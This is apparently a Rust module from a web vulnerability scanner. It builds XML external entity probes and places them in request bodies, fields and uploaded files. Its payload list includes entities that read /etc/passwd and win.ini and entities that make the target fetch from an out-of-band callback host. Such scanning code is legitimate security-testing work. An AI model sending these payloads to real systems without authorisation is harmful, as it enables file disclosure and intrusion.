//! Documents with a document type that makes their reader load something, and where in a request they go.

use super::{PASSWD, WIN_INI};
use crate::checks::pattern::Pattern;
use crate::checks::{Entry, callback};
use crate::http::{Body, Method, Request};
use crate::point::{Place, Point};
use crate::xml;

/// What shows that something was loaded.
#[derive(Debug, Clone, Copy)]
pub(super) enum Sees {
    /// The answer matches.
    Text(&'static str),
    /// The listener is called.
    Call,
}

/// A way to have something loaded.
#[derive(Debug)]
pub(super) struct Way {
    /// What the document type declares: declarations, or an external identifier.
    pub(super) dtd: &'static str,
    /// What stands in the document for it.
    pub(super) reference: &'static str,
    pub(super) sees: Sees,
    /// Whether it is worth a request where XML is only suspected.
    pub(super) is_common: bool,
}

const fn call(dtd: &'static str, reference: &'static str, is_common: bool) -> Way {
    Way { dtd, reference, sees: Sees::Call, is_common }
}

const fn text(dtd: &'static str, reference: &'static str, pattern: &'static str, is_common: bool) -> Way {
    Way { dtd, reference, sees: Sees::Text(pattern), is_common }
}

/// An error that names the file that was to be loaded and is nowhere.
const NOT_FOUND: &str = r"(?i)(?:failed to load|no such file|cannot (?:find|open|load)|can't (?:find|open)|could ?n[o']t (?:open|load|find)|not found|unable to (?:open|load|find)|FileNotFound|I/O (?:error|warning))[^<]{0,300}redoubt-nowhere-4d1f|redoubt-nowhere-4d1f[^<]{0,200}(?:no such file|cannot find|not found|could not|does not exist|failed to)";

/// In the order in which they are tried.
pub(super) const WAYS: &[Way] = &[
    call("<!ENTITY zq SYSTEM \"http://{{callback}}/{{token}}.xml\">", "&zq;", true),
    text("<!ENTITY zq SYSTEM \"file:///etc/passwd\">", "&zq;", PASSWD, true),
    call("<!ENTITY % zq SYSTEM \"http://{{callback}}/{{token}}.dtd\"> %zq;", "", true),
    call("SYSTEM \"http://{{callback}}/{{token}}.dtd\"", "", false),
    text("<!ENTITY % zq SYSTEM \"file:///redoubt-nowhere-4d1f\"> %zq;", "", NOT_FOUND, false),
    text("<!ENTITY zq SYSTEM \"file:///redoubt-nowhere-4d1f\">", "&zq;", NOT_FOUND, false),
    call("<!ENTITY zq PUBLIC \"zq\" \"http://{{callback}}/{{token}}.xml\">", "&zq;", false),
    text("<!ENTITY zq SYSTEM \"/etc/passwd\">", "&zq;", PASSWD, false),
    text("<!ENTITY zq SYSTEM \"file:///c:/windows/win.ini\">", "&zq;", WIN_INI, false),
];

/// Where a document goes.
enum At<'a> {
    /// It is the body.
    Body,
    /// In place of a body of another kind.
    Instead,
    /// A field.
    Field(&'a Point),
    /// The content of the nth part, under this name and type.
    File(usize, &'static str, &'static str),
}

/// A place for documents, and one that would be usual there.
pub(super) struct Slot<'a> {
    pub(super) entry: &'a Entry,
    at: At<'a>,
    usual: String,
}

static NAME: Pattern = Pattern::new(r"(?i)xml|soap|svg|saml|rss|opml|wsdl|xsd|xslt?$");
static MARKUP: Pattern = Pattern::new(r"^\s*<(?:\?xml|!DOCTYPE|[A-Za-z_][\w:.-]*[\s/>])");

const SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"20\"><text x=\"0\" y=\"15\">1</text></svg>";

impl<'a> Slot<'a> {
    /// The places of a request as a whole.
    pub(super) fn of_entry(entry: &'a Entry) -> Vec<Self> {
        let request = &entry.request;
        let slot = |at, usual: &str| Self { entry, at, usual: usual.to_owned() };
        match &request.body {
            Body::Xml(text) => vec![slot(At::Body, text)],
            Body::Text { content_type, text } if content_type.contains("xml") => vec![slot(At::Body, text)],
            Body::Json(value) if request.method != Method::Get => {
                vec![slot(At::Instead, &of_json("root", value))]
            }
            Body::Multipart(parts) => {
                let files = parts.iter().enumerate().filter(|(_, part)| part.file_name.is_some());
                let both = |(n, _)| {
                    [
                        slot(At::File(n, "sample.xml", "text/xml"), "<a><b>1</b></a>"),
                        slot(At::File(n, "sample.svg", "image/svg+xml"), SVG),
                    ]
                };
                files.take(3).flat_map(both).collect()
            }
            _ => Vec::new(),
        }
    }

    /// A parameter that holds XML, or sounds like it.
    pub(super) fn of_point(entry: &'a Entry, point: &'a Point) -> Option<Self> {
        let is_field =
            !matches!(point.place, Place::Header | Place::Path(_) | Place::FileName(_) | Place::Xml(_));
        let is_file = matches!((&point.place, &entry.request.body), (Place::Multipart(n), Body::Multipart(parts)) if parts.get(*n).is_some_and(|part| part.file_name.is_some()));
        let is_markup = MARKUP.is_match(&point.value);
        if !is_field || is_file || !(is_markup || NAME.is_match(&point.name)) {
            return None;
        }
        let usual = if is_markup { point.value.clone() } else { "<a><b>1</b></a>".to_owned() };
        Some(Self { entry, at: At::Field(point), usual })
    }

    /// The ways that are worth a request here.
    pub(super) fn ways(&self) -> Vec<&'static Way> {
        let is_known = self.is_known();
        let mut ways: Vec<&Way> = WAYS.iter().filter(|way| way.is_common || is_known).collect();
        if matches!(self.at, At::Instead) {
            ways.truncate(2);
        }
        ways
    }

    /// Whether XML is what is usually sent there.
    pub(super) fn is_known(&self) -> bool {
        match &self.at {
            At::Body => true,
            At::Field(point) => MARKUP.is_match(&point.value),
            At::Instead | At::File(..) => false,
        }
    }

    /// A name that is the same in every run.
    pub(super) fn label(&self) -> String {
        match &self.at {
            At::Body => "body".to_owned(),
            At::Instead => "instead".to_owned(),
            At::Field(point) => callback::place(point),
            At::File(n, name, _) => format!("file {n} {name}"),
        }
    }

    /// The point that a finding names.
    pub(super) fn point(&self) -> Option<Point> {
        match (&self.at, &self.entry.request.body) {
            (At::Field(point), _) => Some((*point).clone()),
            (At::File(n, ..), Body::Multipart(parts)) => {
                let part = parts.get(*n)?;
                let place = Place::Multipart(*n);
                Some(Point { place, name: part.name.clone(), value: part.value.clone() })
            }
            _ => None,
        }
    }

    /// How many texts the usual document has.
    pub(super) fn texts(&self) -> usize {
        (0..5).take_while(|n| xml::with_texts(&self.usual, Some(*n), "").is_some()).count()
    }

    /// The usual document with a document type, and what refers to it in all of its texts, or in the nth.
    pub(super) fn document(&self, way: &Way, nth: Option<usize>) -> String {
        document(&self.usual, way.dtd, way.reference, nth)
    }

    /// The same with the document type, but nothing that refers to it.
    pub(super) fn unused(&self, way: &Way) -> String {
        let dtd = way.dtd.replace(" %zq;", "");
        document(&self.usual, &dtd, "", None)
    }

    /// The usual document with an entity of its own.
    pub(super) fn harmless(&self) -> String {
        document(&self.usual, "<!ENTITY zq \"zq\">", "&zq;", None)
    }

    /// The request with a document in it.
    pub(super) fn request(&self, document: &str) -> Request {
        let mut request = self.entry.request.clone();
        match &self.at {
            At::Body | At::Instead => match &mut request.body {
                Body::Text { text, .. } => document.clone_into(text),
                body => {
                    *body = Body::Xml(document.to_owned());
                    if matches!(self.at, At::Instead) {
                        request.headers.retain(|(name, _)| !name.eq_ignore_ascii_case("content-type"));
                    }
                }
            },
            At::Field(point) => return request.with(point, document),
            At::File(n, name, kind) => {
                if let Body::Multipart(parts) = &mut request.body
                    && let Some(part) = parts.get_mut(*n)
                {
                    document.clone_into(&mut part.value);
                    part.file_name = Some((*name).to_owned());
                    part.content_type = Some((*kind).to_owned());
                }
            }
        }
        request
    }
}

fn document(usual: &str, dtd: &str, reference: &str, nth: Option<usize>) -> String {
    let content = without_prolog(usual);
    let name: String = content
        .trim_start_matches('<')
        .chars()
        .take_while(|letter| letter.is_alphanumeric() || matches!(letter, ':' | '_' | '-' | '.'))
        .collect();
    let (name, content) = if name.is_empty() { ("a".to_owned(), "<a>1</a>") } else { (name, content) };
    let content = match reference {
        "" => content.to_owned(),
        _ => xml::with_texts(content, nth, reference).unwrap_or_else(|| with_text(content, &name, reference)),
    };
    let kind = if dtd.starts_with('<') { format!("[{dtd}]") } else { dtd.to_owned() };
    format!("<?xml version=\"1.0\"?><!DOCTYPE {name} {kind}>{content}")
}

/// A document without any text gets one at its end.
fn with_text(content: &str, name: &str, text: &str) -> String {
    match content.trim_end().strip_suffix("/>") {
        Some(open) if !open.contains('>') => format!("{open}>{text}</{name}>"),
        _ => {
            let at = content.rfind("</").unwrap_or(content.len());
            format!(
                "{}{text}{}",
                content.get(..at).unwrap_or_default(),
                content.get(at..).unwrap_or_default()
            )
        }
    }
}

/// What follows the declaration, comments and the document type.
fn without_prolog(text: &str) -> &str {
    let mut rest = text.trim_start_matches('\u{feff}').trim_start();
    loop {
        let after = |end: &str| rest.split_once(end).map(|(_, rest)| rest.trim_start());
        let next = if rest.starts_with("<?") {
            after("?>")
        } else if rest.starts_with("<!--") {
            after("-->")
        } else if rest.starts_with("<!DOCTYPE") {
            let head = rest.find(['[', '>']).and_then(|at| rest.get(at..));
            if head.is_some_and(|head| head.starts_with('[')) {
                after("]").and_then(|rest| rest.split_once('>')).map(|(_, rest)| rest.trim_start())
            } else {
                after(">")
            }
        } else {
            return rest;
        };
        match next {
            Some(next) => rest = next,
            None => return rest,
        }
    }
}

/// A JSON body as the XML that mappers take for it.
fn of_json(name: &str, value: &serde_json::Value) -> String {
    use serde_json::Value;
    let is_name = |name: &str| {
        name.chars().next().is_some_and(|first| first.is_alphabetic() || first == '_')
            && name.chars().all(|letter| letter.is_alphanumeric() || matches!(letter, '_' | '-' | '.'))
    };
    match value {
        Value::Object(members) => {
            let inner: String = members
                .iter()
                .filter(|(name, _)| is_name(name))
                .take(20)
                .map(|(name, member)| of_json(name, member))
                .collect();
            format!("<{name}>{inner}</{name}>")
        }
        Value::Array(items) => items.iter().take(3).map(|item| of_json(name, item)).collect(),
        Value::String(text) => format!("<{name}>{}</{name}>", quick_xml::escape::escape(text.as_str())),
        other => format!("<{name}>{other}</{name}>"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn documents_keep_their_form() {
        let usual =
            "<?xml version=\"1.0\"?>\n<!-- x --><!DOCTYPE o [<!ENTITY a \"b\">]>\n<o n='1'><i>apple</i></o>";
        let made = document(usual, "<!ENTITY zq SYSTEM \"u\">", "&zq;", None);
        assert_eq!(
            made,
            "<?xml version=\"1.0\"?><!DOCTYPE o [<!ENTITY zq SYSTEM \"u\">]><o n='1'><i>&zq;</i></o>"
        );
        assert!(
            document("<s:e a='1'/>", "SYSTEM \"u\"", "&zq;", None)
                .ends_with("<!DOCTYPE s:e SYSTEM \"u\"><s:e a='1'>&zq;</s:e>")
        );
        assert!(document("<a><b/></a>", "<x", "&zq;", None).ends_with("<a><b/>&zq;</a>"));
        assert!(document("", "<x", "&zq;", None).ends_with("<a>&zq;</a>"));
        let json = serde_json::json!({"a": {"b": ["x<", 2]}, "$": 1});
        assert_eq!(of_json("root", &json), "<root><a><b>x&lt;</b><b>2</b></a></root>");
    }
}
